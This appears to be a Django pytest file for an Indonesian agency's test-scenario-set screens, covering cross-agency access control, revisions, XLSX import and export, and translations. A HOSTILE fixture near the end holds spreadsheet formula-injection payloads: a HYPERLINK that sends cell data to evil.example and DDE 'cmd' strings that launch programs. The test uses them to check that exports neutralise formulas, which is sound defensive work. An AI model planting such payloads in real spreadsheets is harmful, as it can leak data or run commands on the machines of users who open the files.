"""The scenario set screens (issue 18, items 1 and 5): members of the agency read, keepers
write, others get the answer of a set that does not exist; refusals next to their fields."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from laksana.quality import scenarios, spreadsheet
from laksana.quality.models import Scenario, ScenarioSet, ScenarioSetRevision

from .test_scenarios import login
from .test_spreadsheet import HEADER, good_row, xlsx

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english(client, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    with translation.override("en"):
        yield


@pytest.fixture
def sikesda_set(bali) -> ScenarioSet:
    return scenarios.create_set(
        bali["kadis"],
        bali.applications["sikesda"].pk,
        name="UAT SIKESDA",
        app_version="2.1",
        scenarios=[login(1), login(2)],
    )


def as_(client, person):
    client.force_login(person.user)
    return client


def counts() -> tuple[int, int, int]:
    return (
        ScenarioSet.objects.count(),
        Scenario.objects.count(),
        ScenarioSetRevision.objects.count(),
    )


def scenario_form(**extra: str) -> dict[str, str]:
    return {
        "number": "SK-09",
        "title": "Cetak laporan",
        "requirement": "Laporan",
        "preconditions": "",
        "steps": "1. Buka Laporan\n2. Tekan Cetak",
        "input_data": "",
        "expected": "PDF terunduh",
        "priority": "sedang",
        **extra,
    }


# --- the attacks -------------------------------------------------------------------------------


def test_another_agency_gets_not_found_on_every_set_route(client, djki, sikesda_set):
    as_(client, djki["kasie_app"])
    scenario = sikesda_set.scenarios.first()
    before = counts()
    gets = [
        reverse("quality:set", args=[sikesda_set.pk]),
        reverse("quality:sets_revisions", args=[sikesda_set.pk]),
        reverse("quality:sets_revision", args=[sikesda_set.pk, 1]),
        reverse("quality:set_export", args=[sikesda_set.pk]),
        reverse("quality:sets_edit", args=[sikesda_set.pk]),
        reverse("quality:sets_import", args=[sikesda_set.pk]),
        reverse("quality:scenario_new", args=[sikesda_set.pk]),
        reverse("quality:scenario_edit", args=[sikesda_set.pk, scenario.pk]),
    ]
    for url in gets:
        assert client.get(url).status_code == 404, url
        assert client.post(url, scenario_form()).status_code in (404, 405), url
    url = reverse("quality:scenario_remove", args=[sikesda_set.pk, scenario.pk])
    assert client.post(url).status_code == 404
    assert counts() == before
    listing = client.get(reverse("quality:sets")).content.decode()
    assert "UAT SIKESDA" not in listing


def test_another_agencys_application_cannot_be_chosen(client, bali, djki):
    as_(client, djki["kasie_app"])
    before = counts()
    response = client.post(
        reverse("quality:sets_new"),
        {"application": bali.applications["sikesda"].pk, "name": "Curian", "kind": "fungsional"},
    )
    assert response.status_code == 422
    assert "application" in response.context["form"].errors
    assert counts() == before


def test_a_requesting_unit_member_reads_but_may_not_write(client, bali, sikesda_set):
    as_(client, bali["dinkes_staf"])
    page = client.get(reverse("quality:set", args=[sikesda_set.pk]))
    assert page.status_code == 200
    assert "Masuk ke aplikasi 1" in page.content.decode()
    assert reverse("quality:scenario_new", args=[sikesda_set.pk]) not in page.content.decode()
    scenario = sikesda_set.scenarios.first()
    before = counts()
    for url in (
        reverse("quality:sets_new"),
        reverse("quality:sets_import_new"),
        reverse("quality:scenario_new", args=[sikesda_set.pk]),
        reverse("quality:scenario_edit", args=[sikesda_set.pk, scenario.pk]),
        reverse("quality:sets_edit", args=[sikesda_set.pk]),
        reverse("quality:sets_import", args=[sikesda_set.pk]),
    ):
        assert client.get(url).status_code == 403, url
        assert client.post(url, scenario_form()).status_code == 403, url
    url = reverse("quality:scenario_remove", args=[sikesda_set.pk, scenario.pk])
    assert client.post(url).status_code == 403
    assert counts() == before


def test_a_vendor_gets_not_found(client, djki):
    ipas = scenarios.create_set(
        djki["kasie_app"], djki.applications["ipas"].pk, name="SIT IPAS", scenarios=[login(1)]
    )
    as_(client, djki["ipasdev"])
    assert client.get(reverse("quality:set", args=[ipas.pk])).status_code == 404
    assert client.get(reverse("quality:set_export", args=[ipas.pk])).status_code == 404
    assert "SIT IPAS" not in client.get(reverse("quality:sets")).content.decode()


def test_anonymous_is_sent_to_sign_in(client, sikesda_set):
    response = client.get(reverse("quality:set", args=[sikesda_set.pk]))
    assert response.status_code == 302 and reverse("login") in response["Location"]


# --- keepers -----------------------------------------------------------------------------------


def test_a_keeper_makes_a_set_and_adds_edits_and_removes_scenarios(client, bali):
    as_(client, bali["kadis"])
    response = client.post(
        reverse("quality:sets_new"),
        {
            "application": bali.applications["sikesda"].pk,
            "name": "SIT SIKESDA",
            "app_version": "3.0",
            "kind": "fungsional",
            "description": "",
        },
    )
    made = ScenarioSet.objects.get(name="SIT SIKESDA")
    assert response.status_code == 302 and response["Location"].endswith(f"/{made.pk}/")
    response = client.post(reverse("quality:scenario_new", args=[made.pk]), scenario_form())
    assert response.status_code == 302
    scenario = made.scenarios.get()
    response = client.post(
        reverse("quality:scenario_edit", args=[made.pk, scenario.pk]),
        scenario_form(expected="PDF terunduh dan tercetak"),
    )
    assert response.status_code == 302
    scenario.refresh_from_db()
    assert scenario.expected == "PDF terunduh dan tercetak"
    response = client.post(reverse("quality:scenario_remove", args=[made.pk, scenario.pk]))
    assert response.status_code == 302
    made.refresh_from_db()
    assert made.revision == 4 and not made.scenarios.exists()
    old = client.get(reverse("quality:sets_revision", args=[made.pk, 2])).content.decode()
    assert "PDF terunduh" in old and "tercetak" not in old
    listing = client.get(reverse("quality:sets_revisions", args=[made.pk])).content.decode()
    assert "Revision 4" in listing


def test_field_errors_are_shown_next_to_their_fields(client, bali, sikesda_set):
    as_(client, bali["kadis"])
    before = counts()
    response = client.post(
        reverse("quality:scenario_new", args=[sikesda_set.pk]), scenario_form(number="SK-01")
    )
    assert response.status_code == 422
    errors = response.context["form"].errors
    assert "SK-01" in errors["number"][0]
    response = client.post(
        reverse("quality:scenario_new", args=[sikesda_set.pk]),
        scenario_form(title="", priority="darurat"),
    )
    assert response.status_code == 422
    assert set(response.context["form"].errors) == {"title", "priority"}
    assert 'class="field-error"' in response.content.decode()
    assert counts() == before


def test_an_archived_set_is_read_only_until_restored(client, bali, sikesda_set):
    as_(client, bali["kadis"])
    url = reverse("quality:sets_edit", args=[sikesda_set.pk])
    assert client.post(url, {"archive": "1"}).status_code == 302
    sikesda_set.refresh_from_db()
    assert sikesda_set.archived
    response = client.post(reverse("quality:scenario_new", args=[sikesda_set.pk]), scenario_form())
    assert response.status_code == 302
    assert sikesda_set.scenarios.count() == 2
    link = f'href="{reverse("quality:set", args=[sikesda_set.pk])}"'
    assert link not in client.get(reverse("quality:sets")).content.decode()
    assert link in client.get(reverse("quality:sets") + "?archived=1").content.decode()
    assert client.post(url, {"archive": "0"}).status_code == 302
    sikesda_set.refresh_from_db()
    assert not sikesda_set.archived


def test_the_list_filters_by_application(client, bali, sikesda_set):
    scenarios.create_set(bali["kadis"], bali.applications["simpeg"].pk, name="SIT SIMPEG")
    as_(client, bali["dinkes_staf"])
    url = reverse("quality:sets")
    both = client.get(url).content.decode()
    assert "UAT SIKESDA" in both and "SIT SIMPEG" in both
    one = client.get(url, {"application": bali.applications["simpeg"].pk}).content.decode()
    assert "UAT SIKESDA" not in one and "SIT SIMPEG" in one
    assert client.get(url, {"application": "x"}).status_code == 200


# --- spreadsheets ------------------------------------------------------------------------------


def upload(data: bytes, name: str = "skenario.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=spreadsheet.XLSX_TYPE)


def test_export_and_import_round_trip_on_the_screens(client, bali, sikesda_set):
    as_(client, bali["kadis"])
    response = client.get(reverse("quality:set_export", args=[sikesda_set.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == spreadsheet.XLSX_TYPE
    assert "attachment" in response["Content-Disposition"]
    response = client.post(
        reverse("quality:sets_import_new"),
        {
            "application": sikesda_set.application_id,
            "name": "Salinan",
            "file": upload(response.content),
        },
    )
    assert response.status_code == 302
    copy = ScenarioSet.objects.get(name="Salinan")
    assert scenarios.snapshot(copy) == scenarios.snapshot(sikesda_set)


def test_an_earlier_revision_is_exported(client, bali, sikesda_set):
    scenarios.save_scenario(bali["kadis"], sikesda_set.pk, login(3))
    as_(client, bali["dinkes_staf"])
    url = reverse("quality:set_export", args=[sikesda_set.pk])
    first = client.get(url, {"revision": 1})
    rows = list(load_workbook(io.BytesIO(first.content))["Skenario"].iter_rows(values_only=True))
    assert len(rows) == 3 and "r1" in first["Content-Disposition"]
    assert client.get(url, {"revision": 7}).status_code == 404
    assert client.get(url, {"revision": "abc"}).status_code == 404


def test_a_bad_spreadsheet_lists_every_problem_and_imports_nothing(client, bali, sikesda_set):
    as_(client, bali["kadis"])
    data = xlsx([HEADER, good_row(1, title=""), good_row(2, priority="Darurat")])
    before = counts()
    response = client.post(
        reverse("quality:sets_import", args=[sikesda_set.pk]), {"file": upload(data)}
    )
    assert response.status_code == 422
    page = response.content.decode()
    assert "Row 2, column Judul Skenario" in page
    assert "Row 3, column Prioritas" in page
    assert counts() == before
    response = client.post(
        reverse("quality:sets_import", args=[sikesda_set.pk]), {"file": upload(b"not xlsx")}
    )
    assert response.status_code == 422
    assert "file" in response.context["form"].errors


def test_the_template_downloads(client, bali):
    as_(client, bali["dinkes_staf"])
    response = client.get(reverse("quality:sets_template"))
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content))["Skenario"].iter_rows(values_only=True))
    assert rows == [tuple(HEADER)]


def test_the_screens_fit_a_phone(client, bali, sikesda_set):
    as_(client, bali["kadis"])
    for url in (
        reverse("quality:sets"),
        reverse("quality:set", args=[sikesda_set.pk]),
        reverse("quality:scenario_new", args=[sikesda_set.pk]),
    ):
        page = client.get(url).content.decode()
        assert 'name="viewport"' in page
        assert "<table" not in page  # cards, not wide tables


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "requirement": "+cmd|' /C calc'!A0",
    "steps": "-2+3+cmd|' /C notepad'!A0",
    "input_data": "@SUM(1+1)*cmd|' /C calc'!A0",
    "expected": "\t=1+1",
}


def assert_formulas_are_text(content: bytes) -> None:
    """No cell of the workbook is a formula; text starting like one is marked as text and
    kept as written (the rule of tests/security/test_export_injection.py)."""
    import zipfile

    from laksana import tabular

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str) and cell.value.startswith(tabular.FORMULA_STARTS):
            assert cell.quotePrefix, cell.coordinate
    values = [c.value for c in cells]
    for value in HOSTILE.values():
        assert value.strip() in [str(v).strip() for v in values if v is not None]


def test_the_export_page_writes_formulas_as_text(client, bali):
    made = scenarios.create_set(
        bali["kadis"],
        bali.applications["sikesda"].pk,
        name='=HYPERLINK("http://evil.example")',
        scenarios=[login(1, **HOSTILE)],
    )
    as_(client, bali["dinkes_staf"])
    response = client.get(reverse("quality:set_export", args=[made.pk]))
    assert response.status_code == 200
    assert_formulas_are_text(response.content)


def test_the_screens_are_indonesian(client, bali, settings, sikesda_set):
    from tests.web.test_translations import assert_indonesian

    client.cookies.pop(settings.LANGUAGE_COOKIE_NAME, None)
    as_(client, bali["kadis"])
    scenario = sikesda_set.scenarios.first()
    pages = {
        reverse("quality:sets"): ["Set skenario", "Templat kosong (XLSX)"],
        reverse("quality:set", args=[sikesda_set.pk]): ["Tambah skenario", "Langkah pengujian"],
        reverse("quality:sets_new"): ["Set skenario baru"],
        reverse("quality:sets_edit", args=[sikesda_set.pk]): ["Ubah set skenario"],
        reverse("quality:sets_revisions", args=[sikesda_set.pk]): ["Revisi 1"],
        reverse("quality:sets_revision", args=[sikesda_set.pk, 1]): ["tidak dapat diubah"],
        reverse("quality:sets_import", args=[sikesda_set.pk]): ["Impor XLSX ke set ini"],
        reverse("quality:sets_import_new"): ["Impor XLSX sebagai set baru"],
        reverse("quality:scenario_new", args=[sikesda_set.pk]): ["Tambah skenario"],
        reverse("quality:scenario_edit", args=[sikesda_set.pk, scenario.pk]): ["Ubah skenario"],
    }
    for url, words in pages.items():
        assert_indonesian(client.get(url), words, [])
